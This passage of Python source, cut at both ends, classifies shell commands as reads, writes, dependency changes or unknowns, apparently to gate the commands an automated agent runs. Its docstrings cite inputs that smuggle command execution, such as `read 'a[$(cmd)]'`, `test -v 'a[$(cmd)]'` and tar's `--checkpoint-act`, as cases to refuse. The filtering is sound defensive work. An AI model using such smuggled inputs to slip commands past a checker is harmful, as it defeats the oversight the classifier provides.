        return _V("unknown", "shell_command_unproven", dep=True)   # go run mod@version
    if verb == "mod":
        sub = texts[1] if len(texts) > 1 else ""
        if sub in ("graph", "why", "verify"):
            return _an_read()
        if sub == "edit":
            # -require, -replace, -tool, -exclude change what is built; -droprequire
            # and -go do not.  Go's flag package takes -x, --x, -x=v and -x v.
            return _V("write", dep=any(_go_flag(t) in ("require", "replace", "tool", "exclude",
                                                        "godebug") for t in texts[2:]))
        if sub == "download":
            return _V("write", dep=any("@" in t for t in texts[2:]))
        return _write()
    if verb == "work":
        return _write()
    if verb == "version" or (verb == "help" and all(w.static for w in args)):
        return _an_read()
    if verb == "env":
        # Go's flag package also takes --w, -w=true and --u.
        return _write() if any(_go_flag(t) in ("w", "u") for t in texts[1:]) else _an_read()
    if verb == "list":
        return _go_list(args[1:])
    if verb == "doc":
        return _an_read() if all(w.static for w in args) else _unknown()
    if verb in ("fmt", "generate", "clean"):
        return _write()
    return _unknown()


def _gem(name: str, args: List[_W], ctx: _Ctx) -> _V:
    texts = [w.text for w in args if not w.text.startswith("-")]
    verb = texts[0] if texts else ""
    if [w.text for w in args] in (["--version"], ["-v"], ["-V"]):
        return _an_read()
    if name == "gem":
        if verb in ("install", "i", "update"):
            return _V("write", dep=True)
        if verb == "sources" and any(w.text in ("-a", "--add") for w in args):
            return _V("write", dep=True)
        if verb in ("list", "search", "info", "contents", "environment", "which", "query",
                    "specification", "help", "outdated"):
            return _an_read()
        return _write()
    if verb in ("add", "update", "inject") or (verb == "lock" and any(
            w.text.startswith("--update") for w in args)):
        return _V("write", dep=True)   # a new gem, or newer versions of declared ones
    if name != "gem" and verb == "exec":
        at = next(k for k, w in enumerate(args) if w.text == "exec")
        inner = _run_inner(args[at + 1:], ctx)
        return _V("unknown", "shell_command_unproven", hash_=inner.hash, dep=inner.dep)
    if verb in ("install", "update", "remove", "lock", "init", "clean", "binstubs", "config",
                "cache", "package", "pristine"):
        # `bundle config --delete NAME` removes a setting.
        if verb == "config" and len(texts) <= 2 and "set" not in texts and "unset" not in texts \
                and all(w.text in ("--global", "--local", "--parseable")
                        for w in args if w.text.startswith("-")):
            return _an_read()
        return _write()
    if verb in ("list", "show", "info", "outdated", "check", "platform", "help", "doctor"):
        return _unknown("repository_code")   # Bundler evaluates the Gemfile, which is Ruby
    return _unknown()


def _composer(name: str, args: List[_W], ctx: _Ctx) -> _V:
    texts = [w.text for w in args if not w.text.startswith("-")]
    verb = texts[0] if texts else ""
    if [w.text for w in args] in (["--version"], ["-V"]):
        return _an_read()
    if verb in ("require", "req", "update", "u", "upgrade", "create-project"):
        return _V("write", dep=True)   # a new package or newer versions of declared ones
    if verb in ("global",) and len(texts) > 1 and texts[1] in ("require", "req", "update"):
        return _V("write", dep=True)
    if verb == "config" and any(t.startswith("repositories") for t in texts[1:]):
        return _V("write", dep=True)
    if verb in ("show", "info", "outdated", "validate", "licenses", "depends", "why",
                "prohibits", "why-not", "search", "diagnose", "check-platform-reqs", "fund",
                "status", "audit", "suggests", "help", "list"):
        # Composer starts the plugins installed in vendor/ for every command.
        return _an_read() if "--no-plugins" in [w.text for w in args] else \
            _unknown("repository_code")
    if verb in ("install", "i", "update", "u", "upgrade", "remove", "rm", "dump-autoload",
                "init", "create-project", "config", "bump", "reinstall", "clear-cache"):
        return _write()
    return _unknown()


def _dotnet(name: str, args: List[_W], ctx: _Ctx) -> _V:
    texts = [w.text for w in args]
    low = [t.lower() for t in texts]
    if low in (["--list-sdks"], ["--list-runtimes"]):
        return _an_read()
    if low in (["--version"], ["--info"]):
        # global.json may point the SDK search at a folder of the project.
        return _unknown("repository_code")
    verb = low[0] if low else ""
    if verb == "add":
        return _V("write", dep="package" in low)
    if verb == "package" and len(low) > 1 and low[1] in ("add", "update"):
        return _V("write", dep=True)
    if verb == "tool" and len(low) > 1 and low[1] in ("install", "run", "exec", "update"):
        return _V("write", dep=True)
    if (verb == "new" and len(low) > 1 and low[1] in ("install", "--install", "-i")) or (
            verb == "nuget" and low[1:3] in (["add", "source"], ["update", "source"])):
        return _V("write", dep=True)   # a template package; another package source
    if verb == "list" or (verb == "package" and len(low) > 1 and low[1] == "list"):
        return _unknown("repository_code")   # MSBuild evaluates the project files
    if verb in ("restore", "remove", "new", "clean", "publish", "pack", "nuget", "sln",
                "format", "workload", "tool"):
        return _write()
    return _unknown()


def _system_pm(name: str, args: List[_W], ctx: _Ctx) -> _V:
    texts = [w.text for w in args if not w.text.startswith("-")]
    verb = texts[0] if texts else ""
    if [w.text for w in args] in (["--version"], ["-v"], ["-V"]):
        return _an_read()
    if verb in ("install", "add", "reinstall", "-S", "in", "upgrade", "tap"):
        return _V("write", dep=True)
    if verb in ("list", "search", "show", "info", "policy", "depends", "rdepends", "deps",
                "leaves", "outdated", "config", "doctor", "--version", "madison",
                "desc", "uses"):
        return _an_read()   # (`brew home` opens a browser: not here)
    if any(w.text in ("-S", "-Sy", "-Syu") for w in args):
        return _V("write", dep=True)
    return _write()


# Other package managers, by verb (one or two words).  "add": a dependency
# change when the verb names a package, else it restores what is declared;
# "dep": always one (newer versions, another source, a package run from the
# registry); "restore": installs what is declared; "write": other changes.
# A verb not listed is unknown.  Restoring is not adding: `mix deps.get`,
# `pod install`, `dart pub get` install exactly what the manifest and lock say.
_PM_VERBS: Dict[str, Dict[str, str]] = {
    "pixi": {"add": "dep", "global install": "dep", "global add": "dep", "global upgrade": "dep",
             "global update": "dep", "global sync": "restore", "exec": "dep", "x": "dep",
             "install": "restore", "update": "dep", "upgrade": "dep", "lock": "write",
             "remove": "write", "rm": "write", "init": "write", "self-update": "dep",
             "project channel add": "dep", "workspace channel add": "dep"},
    "nuget": {"install": "add", "update": "dep", "restore": "restore", "sources add": "dep",
              "add": "dep", "delete": "write", "push": "write"},
    "paket": {"add": "dep", "update": "dep", "install": "restore", "restore": "restore",
              "remove": "write"},
    "vcpkg": {"install": "add", "add port": "dep", "add": "dep", "upgrade": "dep",
              "x-update-baseline": "dep", "remove": "write", "integrate": "write"},
    "conan": {"install": "restore", "remote add": "dep", "create": "write", "remove": "write",
              "lock create": "write", "build": "restore"},
    "cabal": {"install": "add", "v2-install": "add", "get": "dep", "update": "write",
              "build": "restore", "v2-build": "restore"},
    "stack": {"install": "add", "upgrade": "dep", "build": "restore", "setup": "write"},
    "nimble": {"install": "add", "add": "dep", "upgrade": "dep", "refresh": "write",
               "uninstall": "write", "remove": "write", "develop": "dep"},
    "mix": {"deps.get": "restore", "deps.compile": "restore", "deps.update": "dep",
            "deps.unlock": "write", "deps.clean": "write", "archive.install": "dep",
            "escript.install": "dep", "local.hex": "dep", "local.rebar": "dep",
            "igniter.install": "dep", "hex.organization": "dep", "hex.repo": "dep"},
    "rebar3": {"upgrade": "dep", "get-deps": "restore", "unlock": "write", "compile": "restore"},
    "dart": {"pub add": "dep", "pub upgrade": "dep", "pub downgrade": "dep", "pub get": "restore",
             "pub global activate": "dep", "pub remove": "write", "pub cache add": "dep",
             "create": "write"},
    "flutter": {"pub add": "dep", "pub upgrade": "dep", "pub downgrade": "dep",
                "pub get": "restore", "pub global activate": "dep", "pub remove": "write",
                "create": "write", "packages get": "restore", "packages upgrade": "dep"},
    "pub": {"add": "dep", "upgrade": "dep", "downgrade": "dep", "get": "restore",
            "global activate": "dep", "remove": "write"},
    "swift": {"package add-dependency": "dep", "package update": "dep",
              "package resolve": "restore", "package init": "write", "build": "restore"},
    "pod": {"install": "restore", "update": "dep", "repo add": "dep", "init": "write",
            "deintegrate": "write"},
    "carthage": {"update": "dep", "bootstrap": "restore", "checkout": "restore",
                 "build": "restore"},
    "bower": {"install": "add", "i": "add", "update": "dep", "uninstall": "write"},
    "volta": {"install": "dep", "pin": "dep", "uninstall": "write"},
    "mise": {"use": "dep", "u": "dep", "install": "add", "i": "add", "upgrade": "dep",
             "plugins install": "dep", "plugin install": "dep", "plugins add": "dep"},
    "asdf": {"plugin add": "dep", "plugin-add": "dep", "install": "add", "plugin update": "dep"},
    "spack": {"install": "dep", "add": "dep"},
    "opam": {"install": "add", "pin add": "dep", "pin": "dep", "upgrade": "dep",
             "repo add": "dep", "repository add": "dep", "update": "write"},
    "luarocks": {"install": "dep"}, "pecl": {"install": "dep", "upgrade": "dep"},
    "pear": {"install": "dep", "upgrade": "dep"}, "cpan": {"install": "dep", "-i": "dep"},
    "snap": {"install": "dep", "refresh": "dep", "remove": "write"},
    "flatpak": {"install": "dep", "update": "dep", "remote-add": "dep", "uninstall": "write"},
    "guix": {"install": "dep", "upgrade": "dep", "pull": "dep", "remove": "write"},
    "pkg": {"install": "dep", "add": "dep", "upgrade": "dep", "update": "write"},
    "pkgin": {"install": "dep", "in": "dep", "upgrade": "dep", "full-upgrade": "dep"},
    "aptitude": {"install": "dep", "upgrade": "dep", "safe-upgrade": "dep",
                 "full-upgrade": "dep", "update": "write"},
    "nix": {"profile install": "dep", "profile add": "dep", "profile upgrade": "dep",
            "shell": "dep", "run": "dep", "flake update": "dep", "registry add": "dep",
            "develop": "restore", "build": "restore"},
    "deno": {"add": "dep", "install": "add", "i": "add", "outdated": "write",
             "cache": "restore"},
    "mvn": {"dependency:get": "dep", "versions:use-latest-versions": "dep",
            "versions:use-latest-releases": "dep", "versions:use-next-releases": "dep",
            "versions:update-properties": "dep", "versions:update-parent": "dep",
            "install": "restore", "package": "restore", "compile": "restore",
            "dependency:resolve": "restore", "dependency:go-offline": "restore"},
    "lerna": {"add": "dep", "bootstrap": "restore"},
    "rush": {"add": "dep", "update": "dep", "install": "restore", "upgrade-interactive": "dep"},
    "rye": {}, "pdm": {},
}
# Programs whose every operand is a package to install.
_PM_OPERAND_INSTALLS = frozenset(("cpanm", "easy_install", "emerge", "xbps-install"))
# Flag-driven installers: these options install a package or a newer version.
_PM_INSTALL_FLAGS = {
    "dpkg": ("-i", "--install", "--unpack"), "rpm": ("-i", "-U", "-F", "--install", "--upgrade",
                                                     "--freshen"),
    "yay": ("-S", "-U"), "paru": ("-S", "-U"),
    "nix-env": ("-i", "--install", "-u", "--upgrade"), "nix-shell": ("-p", "--packages"),
}


def _pm_table(name: str, args: List[_W], ctx: _Ctx) -> _V:
    texts = [w.text for w in args]
    if texts in (["--version"], ["-v"], ["-V"], ["version"]) or texts in (
            [[v] for v in _VERSION_WORDS.get(name, ())]):
        return _an_read()
    if name in _PM_OPERAND_INSTALLS:
        return _V("write", dep=any(not t.startswith("-") for t in texts))
    if name in _PM_INSTALL_FLAGS:
        flags = _PM_INSTALL_FLAGS[name]
        letters = "".join(f[1] for f in flags if len(f) == 2)
        # `-i`, `--install`, or the letter inside a cluster (`rpm -Uvh`, `nix-env -iA`)
        hit = any(t in flags or (t[:1] == "-" and t[1:2] != "-" and any(ch in letters
                                                                          for ch in t[1:]))
                  for t in texts)
        return _V("write", dep=True) if hit else _unknown()
    words = [t for t in texts if not t.startswith("-")]
    table = _PM_VERBS.get("mvn" if name == "mvnw" else name, {})
    for size in (3, 2, 1):
        verb = " ".join(words[:size])
        effect = table.get(verb)
        if effect is None:
            continue
        if effect == "add":
            return _V("write", dep=len(words) > size or not all(w.static for w in args))
        if name == "conan" and verb == "install":
            return _V("write", dep=any(t.startswith(("--requires", "--tool-requires"))
                                       for t in texts))
        return _V("write", dep=effect == "dep")
    return _version_only(name, args, ctx) if name in ("stack", "mix", "dart", "flutter",
                                                      "swift") else _unknown()


# ---- small programs ---------------------------------------------------------

def _tee(name: str, args: List[_W], ctx: _Ctx) -> _V:
    files = []
    dd = False
    for w in args:
        t = w.text
        if w.static and t == "--" and not dd:
            dd = True
            continue
        if not dd and w.static and t.startswith("-") and t != "-":
            continue
        if w.static and t in _DEV_SINKS:
            continue   # GNU tee writes a file literally named "-"
        files.append(w)
    if not files:
        return _an_read()
    return _write(files)


def _dir_operands(args: List[_W], flags: Tuple[str, ...]) -> Tuple[List[_W], bool]:
    """Operands of cd/pushd/popd after their leading flags, and whether -n
    (change the stack only) was among them."""
    ops: List[_W] = []
    no_cd = dd = False
    for w in args:
        if not ops and not dd and w.static and w.text == "--":
            dd = True
        elif not ops and not dd and w.static and w.text in flags:
            no_cd = no_cd or w.text == "-n"
        else:
            ops.append(w)
    return ops, no_cd


def _dir_of(word: _W) -> Optional[str]:
    """Where `cd WORD` goes, or None when that cannot be known: an expansion,
    `-` (the previous folder) or a stack entry such as +1 or -2."""
    text = word.text
    if not word.static or text == "-" or (len(text) > 1 and text[0] in "+-"
                                          and text[1:].isdigit()):
        return None
    return text


def _cd(name: str, args: List[_W], ctx: _Ctx) -> _V:
    """cd, and zsh's chdir: reads nothing, writes nothing, moves the shell."""
    ops, _ = _dir_operands(args, ("-L", "-P", "-e", "-@", "-q", "-s"))
    v = _an_read() if len(ops) <= 2 else _unknown()
    # No operand: $HOME.  Two: zsh replaces the first by the second in $PWD
    # (bash refuses), a folder this line cannot name.
    v.cd = ("to", "~" if not ops else _dir_of(ops[0]) if len(ops) == 1 else None)
    return v


def _pushd(name: str, args: List[_W], ctx: _Ctx) -> _V:
    ops, no_cd = _dir_operands(args, ("-n", "-q", "-s", "-L", "-P"))
    v = _an_read()       # pushd moves the shell; it writes nothing
    if no_cd:
        v.cd = ("stack",)
    elif not ops:
        v.cd = ("swap",)          # the top two entries change places
    elif len(ops) == 1 and _dir_of(ops[0]) is not None:
        v.cd = ("push", ops[0].text)
    else:
        v.cd = ("lost",)          # a rotation (+N, -N), an expansion, zsh's old/new
    return v


def _popd(name: str, args: List[_W], ctx: _Ctx) -> _V:
    ops, no_cd = _dir_operands(args, ("-n", "-q"))
    v = _an_read()
    v.cd = ("stack",) if no_cd else ("pop",) if not ops else ("lost",)
    return v


def _dirs(name: str, args: List[_W], ctx: _Ctx) -> _V:
    """dirs lists the stack; -c clears it, and in zsh `dirs a b` sets it."""
    v = _an_read()
    for w in args:
        t = w.text
        index = len(t) > 1 and t[0] in "+-" and t[1:].isdigit()
        if not w.static or not (index or t in ("-c", "-l", "-p", "-v", "-lv", "-pv")):
            v = _unknown("state_change")
            v.cd = ("stack",)
        elif t == "-c":
            v.cd = ("stack",)
    return v


def _printf(name: str, args: List[_W], ctx: _Ctx) -> _V:
    if args and args[0].text.startswith("-v") or (args and args[0].opaque):
        return _unknown("state_change")
    return _an_read()


def _read(name: str, args: List[_W], ctx: _Ctx) -> _V:
    """`read` assigns variables: read only for plain lower-case names
    (`while read line`).  `read PATH` changes where programs are found and
    `read 'a[$(cmd)]'` runs cmd while evaluating the subscript."""
    i = 0
    names_only = False
    while i < len(args):
        w = args[i]
        i += 1
        if not w.static:
            return _unknown("state_change")
        t = w.text
        if not names_only and t == "--":
            names_only = True
            continue
        if names_only or not t.startswith("-") or t == "-":
            names_only = True
            if not _plain_var(t):
                return _unknown("state_change")
            continue
        for j in range(1, len(t)):
            ch = t[j]
            if ch in "ers":
                continue
            if ch not in "adinNptu":
                return _unknown("state_change")
            value = t[j + 1:]
            if not value:
                if i >= len(args) or not args[i].static:
                    return _unknown("option_value_missing")
                value = args[i].text
                i += 1
            if ch == "a" and not _plain_var(value):
                return _unknown("state_change")
            if ch in "nNu" and not value.isdigit():
                return _unknown("state_change")
            if ch == "t" and not value.replace(".", "", 1).isdigit():
                return _unknown("state_change")
            break
    return _an_read()


# Operators that make a three-word test binary whatever the outer words hold.
_TEST_BINARY = frozenset(("=", "==", "!=", "<", ">", "-eq", "-ne", "-lt", "-le", "-gt", "-ge",
                          "-nt", "-ot", "-ef", "-a", "-o"))


def _test(name: str, args: List[_W], ctx: _Ctx) -> _V:
    """`test -v 'a[$(cmd)]'` runs cmd (bash evaluates the subscript).  A
    variable word may itself become -v (`echo -v; [ "$_" "$x" ]`), so
    expansions are allowed only where test reads them as operands."""
    words = list(args)
    if name == "[" and words and words[-1].static and words[-1].text == "]":
        words = words[:-1]
    if any(w.static and w.text in ("-v", "-R") for w in words):
        return _unknown()
    if all(w.static for w in words):
        return _an_read()
    if any(w.glob or (w.dyn and w.split) for w in words):
        return _unknown("shell_syntax_unproven")
    n = len(words)
    if n == 1 or (n == 2 and words[0].static) \
            or (n == 3 and words[1].static and words[1].text in _TEST_BINARY):
        return _an_read()
    return _unknown("shell_syntax_unproven")


def _jobs(name: str, args: List[_W], ctx: _Ctx) -> _V:
    """`jobs -x cmd args` runs cmd; listing flags and job specs only read."""
    for w in args:
        t = w.text
        if not w.static or not (t.startswith("%") or (
                t.startswith("-") and len(t) > 1 and all(ch in "lnprs" for ch in t[1:]))):
            return _unknown()
    return _an_read()


def _wait(name: str, args: List[_W], ctx: _Ctx) -> _V:
    """`wait -p NAME` assigns NAME (and evaluates a subscript in it)."""
    for w in args:
        t = w.text
        if not w.static or (t.startswith("-") and not (
                len(t) > 1 and all(ch in "nf" for ch in t[1:]))):
            return _unknown("state_change")
    return _an_read()


def _set(name: str, args: List[_W], ctx: _Ctx) -> _V:
    if len(args) == 1 and args[0].static and args[0].text in ("-o", "+o"):
        return _an_read()       # prints the options (+o: as commands that set them)
    i = 0
    while i < len(args):
        t = args[i].text
        if not args[i].static:
            return _unknown("state_change")
        if t in ("-o", "+o") and i + 1 < len(args) and args[i + 1].text in (
                "pipefail", "errexit", "nounset", "xtrace"):
            i += 2
            continue
        if len(t) > 1 and t[0] in "-+" and all(ch in "euxv" for ch in t[1:]):
            i += 1
            continue
        if len(t) > 2 and t[0] in "-+" and t[-1] == "o" and all(ch in "euxv" for ch in t[1:-1]) \
                and i + 1 < len(args) and args[i + 1].text in ("pipefail", "errexit", "nounset"):
            i += 2
            continue
        return _unknown("state_change")
    return _an_read() if args else _an_read()


def _formats_only(operands: List[_W]) -> Optional[_V]:
    """date's operands: a +FORMAT prints, anything else sets the clock."""
    if all(w.text.startswith("+") for w in operands):
        return None
    return _unknown("state_change")


# date prints unless it sets the clock: -s (also inside a cluster such as
# -us...), --set or any abbreviation of it (--s=...), or an operand that
# is not a +FORMAT.  -s and --set count with or without their value.
#: read | date +%Y-%m-%d
#: read | date -u -d @0 +%s
#: read | date --iso-8601=seconds
#: unknown =state_change | date -us 2020-01-01
#: unknown =state_change | date --s=2020-01-01
#: unknown =state_change | date 0101000020
_DATE = _Opts(
    "-Ru -dfr: -I? -s? --date: --debug --file: --iso-8601? --resolution --rfc-email "
    "--rfc-822 --rfc-2822 --rfc-3339: --reference: --set? --universal --utc --help --version",
    state="-s --set", check=_formats_only)


# hostname options that only print; anything else (a NAME, -F FILE, -b, a
# cluster or an abbreviation) may set the host name.
_HOSTNAME_READ_OPTIONS = frozenset((
    "-s", "--short", "-f", "--fqdn", "--long", "-d", "--domain", "-i", "--ip-address",
    "-I", "--all-ip-addresses", "-A", "--all-fqdns", "-a", "--alias", "-y", "--yp", "--nis",
    "-V", "--version", "-h", "--help"))


def _hostname(name: str, args: List[_W], ctx: _Ctx) -> _V:
    if all(w.static and w.text in _HOSTNAME_READ_OPTIONS for w in args):
        return _an_read()
    return _unknown("state_change")


# Options of `openssl dgst` that only shape the printed digest.
_OPENSSL_PRINT_OPTS = frozenset(("-hex", "-binary", "-r", "-c", "-list"))
# Every digest `openssl` takes as a command of its own (`openssl sha3-512`,
# `openssl blake2b512`); `openssl list -digest-commands` prints them.
_OPENSSL_DIGESTS = frozenset((
    "dgst", "md4", "md5", "md5-sha1", "mdc2", "rmd160", "ripemd", "ripemd160", "ripemd-160",
    "sha1", "sha224", "sha256", "sha384", "sha512", "sha512-224", "sha512-256", "sha3-224",
    "sha3-256", "sha3-384", "sha3-512", "shake128", "shake256", "sm3", "blake2b512",
    "blake2s256", "whirlpool", "keccak-224", "keccak-256", "keccak-384", "keccak-512",
    "ssl3-md5", "ssl3-sha1", "gost"))


def _openssl_opt(text: str) -> str:
    """An openssl option as the program reads it: `--out` and `-out=f` are `-out`."""
    if text.startswith("--"):
        text = text[1:]
    return text.split("=", 1)[0]


def _openssl(name: str, args: List[_W], ctx: _Ctx) -> _V:
    texts = [w.text for w in args]
    verb = texts[0].lower() if texts else ""
    opts = [_openssl_opt(t) for t in texts[1:] if t.startswith("-") and t != "-"]
    # A digest command, a MAC or key derivation, a password hash, or a
    # certificate's fingerprint: each computes a digest.
    digest = verb in _OPENSSL_DIGESTS or verb in ("mac", "passwd", "kdf") or (
        not args[0].static if args else False) or "-fingerprint" in opts
    if verb in ("version",) or texts == ["--version"]:
        return _an_read()
    if any(o in ("-out", "-keyout", "-writerand") for o in opts):
        return _V("write", hash_=digest)
    if verb in _OPENSSL_DIGESTS and texts[0] == verb and all(w.static for w in args) \
            and all(o in _OPENSSL_PRINT_OPTS
                    or _an_rx("ossl-md", r"-(md[245]|sha[0-9]*(-[0-9]+)?|sha3-[0-9]+|shake[0-9]+"
                                         r"|blake2[bs][0-9]+|rmd160|ripemd160|sm3)\Z").match(o)
                    for o in opts):
        return _V(hash_=True)   # prints a digest and nothing else
    if digest or verb in ("x509", "s_client", "asn1parse", "ciphers", "list", "rand", "base64",
                          "enc"):
        return _V("unknown", "shell_command_unproven", hash_=digest)
    return _unknown()


def _hash_unproven(name: str, args: List[_W], ctx: _Ctx) -> _V:
    return _V("unknown", "shell_command_unproven", hash_=True)


# `cmake -E` tools that print a file's digest.
_CMAKE_HASH_TOOLS = frozenset(("md5sum", "sha1sum", "sha224sum", "sha256sum", "sha384sum",
                               "sha512sum", "sha3_224sum", "sha3_256sum", "sha3_384sum",
                               "sha3_512sum"))


def _cmake(name: str, args: List[_W], ctx: _Ctx) -> _V:
    if len(args) >= 2 and args[0].text == "-E":
        tool = args[1].text.lower()
        return _V("unknown", "shell_command_unproven",
                  hash_=tool in _CMAKE_HASH_TOOLS or not args[1].static)
    return _version_only(name, args, ctx)


def _multicall(name: str, args: List[_W], ctx: _Ctx) -> _V:
    """busybox/toybox/coreutils APPLET ARGS runs the applet: what it would do
    (a digest, a write, an install) is what the call does, never proven read."""
    if not args:
        return _unknown()
    applet, rest = args[0], args[1:]
    if name == "coreutils" and applet.text.startswith("--coreutils-prog="):
        applet = _lit(applet.text.split("=", 1)[1])
    if not applet.static or applet.text.startswith("-"):
        return _unknown()
    return _classify_argv([applet] + rest, ctx.deeper()).cap("shell_command_unproven")


def _certutil(name: str, args: List[_W], ctx: _Ctx) -> _V:
    hashes = any(w.text.lower() in ("-hashfile", "/hashfile") for w in args)
    if hashes and args and args[0].text.lower() in ("-hashfile", "/hashfile") and len(args) <= 3:
        return _V(hash_=True)
    return _V("unknown", "shell_command_unproven", hash_=hashes)


def _gpg(name: str, args: List[_W], ctx: _Ctx) -> _V:
    hashes = any(w.text in ("--print-md", "--print-mds") for w in args)
    # Every other word must be an algorithm or a file, and stay one word
    # that cannot become an option (`--print-md $x` may hide --output).
    if hashes and args[0].text in ("--print-md", "--print-mds") and all(
            not w.text.startswith("-") and not w.opaque for w in args[1:]):
        return _V(hash_=True)
    return _V("unknown", "shell_command_unproven", hash_=hashes)


# A listing is proven only with these options: GNU tar matches abbreviated
# long options (`--use=prog` is --use-compress-program, `--checkpoint-act`
# runs a command) and its option letters take values in clusters (`-tvIprog`,
# old style `tfI a.tar prog`), so anything else is refused.
_TAR_LIST_FLAGS = frozenset((
    "--list", "--verbose", "--gzip", "--gunzip", "--ungzip", "--bzip2", "--xz", "--lzma",
    "--zstd", "--auto-compress", "--wildcards", "--no-wildcards", "--numeric-owner",
    "--full-time", "--utc", "--force-local", "--ignore-case", "--anchored", "--no-anchored",
    "--ignore-zeros", "--block-number"))
_TAR_LIST_VALUED = frozenset(("--file", "--exclude"))
_TAR_LIST_LETTERS = "tvzjJ"


def _tar_lists(args: List[_W]) -> bool:
    """Whether the arguments only list an archive (-t) with known options."""
    if not args or not all(w.static for w in args):
        return False
    letters = ""
    archives: List[str] = []
    i, n = 0, len(args)
    first = args[0].text
    if first and not first.startswith("-"):
        # Old style: a letter cluster whose 'f' takes the next word.
        if not all(ch in _TAR_LIST_LETTERS + "f" for ch in first):
            return False
        letters += first
        i = 1
        for _ in range(first.count("f")):
            if i >= n:
                return False
            archives.append(args[i].text)
            i += 1
    while i < n:
        t = args[i].text
        i += 1
        if t == "--":
            break
        if not t.startswith("-") or t == "-":
            continue            # a member name
        if t.startswith("--"):
            key, eq, val = t.partition("=")
            if key in _TAR_LIST_FLAGS and not eq:
                letters += "t" if key == "--list" else ""
            elif key in _TAR_LIST_VALUED:
                if not eq:
                    if i >= n:
                        return False
                    val = args[i].text
                    i += 1
                if key == "--file":
                    archives.append(val)
            else:
                return False
            continue
        body = t[1:]
        for k, ch in enumerate(body):
            if ch == "f":
                rest = body[k + 1:]
                if not rest:
                    if i >= n:
                        return False
                    rest = args[i].text
                    i += 1
                archives.append(rest)
                break
            if ch not in _TAR_LIST_LETTERS:
                return False
            letters += ch
    local = "--force-local" in [w.text for w in args]
    # HOST:FILE is a remote archive, reached by running rsh/ssh.
    if any(":" in a and not local for a in archives):
        return False
    return "t" in letters


# GNU tar's short options that take a value: in a cluster the value is the
# rest of the word or, at its end, the next word (old style: the next words
# in turn).
_TAR_VALUED = "bCfFgHIKLNTVX"


def _tar_words(args: List[_W]) -> Tuple[str, List[_W], List[_W]]:
    """(mode letters, archives named by -f, folders named by -C in order)."""
    mode, archives, folders = "", [], []    # type: Tuple[str, List[_W], List[_W]]
    i, n = 0, len(args)
    while i < n:
        w = args[i]
        t = w.text
        i += 1
        if t == "--":
            break
        if t.startswith("--"):
            key, eq, val = t.partition("=")
            value = _lit(val) if eq and w.static else _W("\0", dyn=True) if eq else None
            if len(key) >= 5 and "--directory".startswith(key) or len(key) >= 4 \
                    and "--file".startswith(key):
                if value is None and i < n:
                    value = args[i]
                    i += 1
                if value is not None:
                    (folders if key.startswith("--d") else archives).append(value)
            elif key in ("--create", "--append", "--update", "--delete", "--catenate",
                         "--concatenate"):
                mode += "c"
            elif key in ("--extract", "--get"):
                mode += "x"
            continue
        old_style = i == 1 and not t.startswith("-")
        if not t.startswith("-") and not old_style:
            continue                        # a member name
        letters = t if old_style else t[1:]
        for k, ch in enumerate(letters):
            if ch not in _TAR_VALUED:
                mode += ch
                continue
            value = None if old_style else letters[k + 1:]
            if value:
                value_w = _lit(value) if w.static else _W("\0", dyn=True)
            elif i < n:
                value_w = args[i]
                i += 1
            else:
                break
            if ch == "C":
                folders.append(value_w)
            elif ch == "f":
                archives.append(value_w)
            if not old_style:
                break
    return mode, archives, folders


def _tar(name: str, args: List[_W], ctx: _Ctx) -> _V:
    """A listing reads; creating writes the archive (named from where tar
    starts); extracting writes into the folders -C moves to, each relative
    to the one before."""
    if _tar_lists(args):
        return _an_read()
    mode, archives, folders = _tar_words(args)
    if any(ch in mode for ch in "cruA"):
        return _write(archives)
    v = _write()
    prefix: Optional[str] = ""
    for w in folders:
        prefix = _cd_join(prefix, w.text if w.static else None)[0]
        if prefix is None:
            v.opaque = True
            break
        v.targets.append(prefix)
    if not folders and "x" in mode:
        v.targets.append(".")     # the members land in the folder tar runs in
    return v


def _option_dirs(args: List[_W], options: Tuple[str, ...]) -> List[_W]:
    """The folders named by `-C DIR` / `--directory=DIR` style options, where the
    command writes; they feed the self-protection check."""
    out = []
    for k, w in enumerate(args):
        t = w.text
        if t in options and k + 1 < len(args):
            out.append(args[k + 1])
        else:
            for option in options:
                if option.startswith("--") and t.startswith(option + "="):
                    out.append(_w_tail(w, len(option) + 1))
    return out


# unzip's listing modes (-l, -v, -t, -z, -p and -c print to the terminal,
# -Z is zipinfo) -> the letters that may follow the mode in its word (-lv,
# -tq, -Z1): they only quiet or shape the listing.
_UNZIP_MODES = {"l": "qv", "v": "qv", "t": "q", "z": "q", "p": "q", "c": "q",
                "Z": "12smlvhtTzC"}


def _unzip_mode(word: _W) -> str:
    """The listing mode the first word names, or ""."""
    t = word.text
    if not word.static or len(t) < 2 or t[0] != "-" or t[1] not in _UNZIP_MODES:
        return ""
    return t[1] if all(ch in _UNZIP_MODES[t[1]] for ch in t[2:]) else ""


def _unzip(name: str, args: List[_W], ctx: _Ctx) -> _V:
    # A listing mode first, and no later option: unzip negates an option
    # with a second dash, so `unzip -t --t a.zip` extracts.
    mode = _unzip_mode(args[0]) if args else ""
    if mode:
        later = ("-1", "-2", "-s", "-m", "-l", "-v", "-h", "-M", "-t", "-T", "-z") \
            if mode == "Z" else ("-q", "-qq", "-x")
        if all(w.static and (not w.text.startswith("-") or w.text in later)
               for w in args[1:]):
            return _an_read()
        return _unknown()
    # The members land in -d DIR, else in the working folder; `-d $dir` is a
    # folder nobody can name here (an unknown target).
    return _write(_option_dirs(args, ("-d",)) or [_lit(".")])

def _patch(name: str, args: List[_W], ctx: _Ctx) -> _V:
    """patch changes the files its input names, after `-d DIR` moves it
    there; -o writes elsewhere.  The folder stands for the files."""
    valued = "BDFgiopYrVzd"
    folders = _wrapper_option(args, "d", "--directory", valued)
    outputs = _wrapper_option(args, "o", "--output", valued)
    v = _in_dir(_write([w.text for w in outputs if w.static]), folders[-1:])
    v.targets.extend(w.text for w in folders[-1:] if w.static)
    v.opaque = v.opaque or any(not w.static for w in folders + outputs)
    return v


def _curl_writes(args: List[_W]) -> Optional[_V]:
    texts = [w.text for w in args]
    for k, t in enumerate(texts):
        if t in ("-o", "--output") and k + 1 < len(texts):
            return _write([args[k + 1]]).blame("option", t)
        if t in ("-D", "--dump-header", "-c", "--cookie-jar", "--output-dir") \
                and k + 1 < len(texts):
            return _write([args[k + 1]]).blame("option", t)
        if t.startswith(("-o", "-D", "-c")) and not t.startswith("--"):
            return _write([_w_tail(args[k], 2)]).blame("option", t)
        key = t.split("=", 1)[0]
        if key in ("--output", "--output-dir", "--dump-header", "--cookie-jar") and "=" in t:
            return _write([_w_tail(args[k], len(key) + 1)]).blame("option", t)
        if t in ("-O", "--remote-name", "--remote-name-all", "-J"):
            # The file is named after the URL (or the server): in the working folder.
